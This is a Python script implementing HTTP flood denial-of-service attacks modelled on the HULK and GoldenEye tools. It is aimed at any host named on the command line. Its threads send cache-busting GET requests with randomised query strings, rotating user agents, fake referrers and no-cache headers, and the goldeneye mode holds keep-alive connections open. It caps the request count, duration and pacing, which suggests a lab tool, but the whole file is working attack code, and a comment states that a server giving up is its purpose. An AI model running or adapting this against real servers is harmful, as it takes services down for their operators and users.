"""HTTP floods: many threads asking for pages that no cache can answer, bounded in count and time.

``hulk`` opens a connection for each request, ``goldeneye`` keeps its connections and asks again and again.
Both vary the address, the user agent, the referrer and the caching headers, as their namesakes do.
"""

from __future__ import annotations

import argparse
import http.client
import random
import string
import threading
import time
from dataclasses import dataclass

_AGENTS = (
    "Mozilla/5.0 (X11; Linux x86_64; rv:102.0) Gecko/20100101 Firefox/102.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/108.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 13_1) AppleWebKit/605.1.15 Version/16.1 Safari/605.1.15",
)


@dataclass(frozen=True)
class Target:
    """What is flooded, the longest pause of a thread between requests, and the page asked for."""

    host: str
    port: int
    pause_s: float
    page: str = "/"


def main() -> None:
    """Run the flood."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("style", choices=["hulk", "goldeneye"])
    parser.add_argument("host")
    parser.add_argument("--requests", type=int, default=300)
    parser.add_argument("--threads", type=int, default=8)
    parser.add_argument("--limit-s", type=float, default=10.0)
    parser.add_argument("--port", type=int, default=80)
    parser.add_argument("--seed", type=int, default=0)
    # Without pauses the whole flood would be over in a blink.
    parser.add_argument("--pause-s", type=float, default=0.2, help="longest of a thread between requests")
    parser.add_argument("--page", default="/")
    given = parser.parse_args()
    flood = hulk if given.style == "hulk" else goldeneye
    deadline_s = time.monotonic() + given.limit_s
    share = given.requests // given.threads
    target = Target(given.host, given.port, given.pause_s, given.page)
    threads = [
        threading.Thread(target=flood, args=(target, share, deadline_s, random.Random(given.seed + number)))
        for number in range(given.threads)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def hulk(target: Target, count: int, deadline_s: float, chance: random.Random) -> None:
    """Ask `count` times, each time over a new connection."""
    for _ in range(count):
        if time.monotonic() > deadline_s:
            return
        connection = http.client.HTTPConnection(target.host, target.port, timeout=20)
        _ask(connection, target.page, chance)
        connection.close()
        time.sleep(chance.uniform(0, target.pause_s))


def goldeneye(target: Target, count: int, deadline_s: float, chance: random.Random) -> None:
    """Ask `count` times over one connection that is kept open, and opened again when the server closes it."""
    connection = http.client.HTTPConnection(target.host, target.port, timeout=5)
    for _ in range(count):
        if time.monotonic() > deadline_s:
            break
        _ask(connection, target.page, chance, {"Connection": "keep-alive", "Keep-Alive": str(chance.randint(110, 120))})
        time.sleep(chance.uniform(0, target.pause_s))
    connection.close()


def _ask(
    connection: http.client.HTTPConnection, page: str, chance: random.Random, more: dict[str, str] | None = None
) -> None:
    words = ["".join(chance.choices(string.ascii_letters, k=chance.randint(3, 10))) for _ in range(4)]
    headers = {
        "User-Agent": chance.choice(_AGENTS),
        "Cache-Control": "no-cache",
        "Referer": f"http://site.example/?q={words[0]}",
        "Accept-Charset": "ISO-8859-1,utf-8;q=0.7,*;q=0.7",
    }
    try:
        connection.request("GET", f"{page}?{words[1]}={words[2]}&{words[3]}", headers=headers | (more or {}))
        connection.getresponse().read()
    except (http.client.HTTPException, OSError):
        # A server that gives up is what a flood is for; the next request tries again.
        connection.close()


if __name__ == "__main__":
    main()
